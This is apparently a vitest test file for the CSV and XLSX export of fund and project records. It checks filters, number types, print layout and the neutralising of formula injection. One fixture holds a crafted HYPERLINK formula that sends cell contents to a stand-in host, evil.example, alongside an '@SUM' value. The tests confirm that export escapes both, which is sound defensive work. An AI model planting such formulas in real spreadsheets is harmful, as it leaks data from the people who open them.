import ExcelJS from "exceljs";
import Papa from "papaparse";
import { PassThrough } from "node:stream";
import { describe, expect, it } from "vitest";
import * as s from "@/db/schema";
import { DEFAULT_FILTERS } from "@/lib/filters";
import { fixtureDb } from "@/lib/testing/test-db";
import { recordCsvChunks, writeRecordXlsx, type RecordExport } from "./record-export";
import { recordNotes, recordText } from "./record-notes";

const CRAFTED = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")';

function craftedDb() {
  const db = fixtureDb();
  db.insert(s.fundRecords)
    .values({ year: 2021, supporterCode: "310000", districtCode: "500101", isDemo: false, periodFrom: null, sourceId: "real", amountWan: 7, kind: "free_aid", sector: null, note: CRAFTED })
    .run();
  db.insert(s.projects)
    .values({ year: 2020, supporterCode: "310000", districtCode: "500101", isDemo: false, periodFrom: null, sourceId: "real", name: "@SUM(1+1)", sector: "citrus", investmentWan: 10, status: "signed", quantity: 1 })
    .run();
  return db;
}

function spec(db: ReturnType<typeof fixtureDb>, metric: RecordExport["metric"], filters = DEFAULT_FILTERS): RecordExport {
  return { db, filters, metric, q: "", locale: "zh-CN", text: recordText("zh-CN"), notes: recordNotes(db, filters, metric, "", 0, "zh-CN", new Date("2025-01-01T00:00:00Z")) };
}

describe("record CSV export", () => {
  it("writes every record under the filter, typed and traceable, after a BOM and # notes", () => {
    const db = craftedDb();
    const csv = [...recordCsvChunks(spec(db, "funds"))].join("");
    expect(csv.startsWith("\uFEFF#标题,引入资金记录\r\n")).toBe(true);
    expect(csv).toContain("#示例数据,");
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, comments: "#", skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(6);
    expect(parsed.meta.fields).toContain("引入资金（万元）");
    const total = parsed.data.reduce((sum, r) => sum + Number(r["引入资金（万元）"]), 0);
    expect(total).toBe(1000 + 3000 + 500 + 6000 + 2000 + 7);
    expect(parsed.data.find((r) => r["备注"]?.includes("HYPERLINK"))?.["备注"]).toBe(`'${CRAFTED}`);
    expect(parsed.data.filter((r) => r["来源类型"] === "示例")).toHaveLength(3);
    expect(parsed.data[0]?.["类别"]).toBe("无偿援助");
  });

  it("follows the filter", () => {
    const db = craftedDb();
    const csv = [...recordCsvChunks(spec(db, "funds", { ...DEFAULT_FILTERS, districts: ["500102"] }))].join("");
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, comments: "#", skipEmptyLines: true }).data;
    expect(rows.map((r) => r["受援区县"])).toEqual(["涪陵区", "涪陵区"]);
    expect(csv).toContain("#筛选条件,区县：涪陵区；年份：1992–2022");
  });
});

describe("record XLSX export", () => {
  it("streams a workbook with typed numbers, neutralised text and a notes sheet", async () => {
    const db = craftedDb();
    const out = new PassThrough();
    const parts: Buffer[] = [];
    out.on("data", (b: Buffer) => parts.push(b));
    const ended = new Promise((resolve) => out.on("end", resolve));
    await writeRecordXlsx({ ...spec(db, "projects"), dataSheet: "数据", notesSheet: "说明" }, out);
    await ended;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Uint8Array.from(Buffer.concat(parts)).buffer);
    const data = workbook.getWorksheet("数据")!;
    expect(data.rowCount).toBe(1 + 3);
    const header = (data.getRow(1).values as unknown[]).slice(1);
    expect(header).toContain("产业合作项目（个）");
    expect(header).toContain("投资额（万元）");
    const nameColumn = header.indexOf("名称") + 1;
    const names = [2, 3, 4].map((r) => data.getRow(r).getCell(nameColumn).value);
    expect(names).toContain("'@SUM(1+1)");
    const valueColumn = header.indexOf("产业合作项目（个）") + 1;
    expect([2, 3, 4].map((r) => data.getRow(r).getCell(valueColumn).value).sort()).toEqual([1, 1, 5]);
    expect(workbook.getWorksheet("说明")!.getCell("B1").value).toBe("产业合作项目记录");
  });

  it("prints on A4 landscape, fit to one page wide, header repeated, with an autofilter (read back by ExcelJS)", async () => {
    const db = craftedDb();
    const out = new PassThrough();
    const parts: Buffer[] = [];
    out.on("data", (b: Buffer) => parts.push(b));
    const ended = new Promise((resolve) => out.on("end", resolve));
    const notes3 = recordNotes(db, DEFAULT_FILTERS, "funds", "", 3, "zh-CN", new Date("2025-01-01T00:00:00Z"));
    await writeRecordXlsx({ ...spec(db, "funds"), notes: notes3, dataSheet: "数据", notesSheet: "说明" }, out);
    await ended;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Uint8Array.from(Buffer.concat(parts)).buffer);
    const data = workbook.getWorksheet("数据")!;
    expect(data.pageSetup).toMatchObject({ paperSize: 9, orientation: "landscape", fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: "1:1" });
    const header = (data.getRow(1).values as unknown[]).slice(1) as string[];
    expect(data.autoFilter).toBe(`A1:${String.fromCharCode(64 + header.length)}1`);
    // Long text columns are wide enough and wrap instead of clipping.
    const source = data.getColumn(header.indexOf("来源") + 1);
    expect(source.width).toBeGreaterThanOrEqual(30);
    expect(data.getCell(2, header.indexOf("来源") + 1).alignment?.wrapText).toBe(true);
    // The notes sheet stores the record count as a number.
    const notes = workbook.getWorksheet("说明")!;
    const countRow = notes.getRows(1, notes.rowCount)!.find((r) => r.getCell(1).value === "记录数");
    expect(countRow?.getCell(2).value).toBe(3);
  });
});
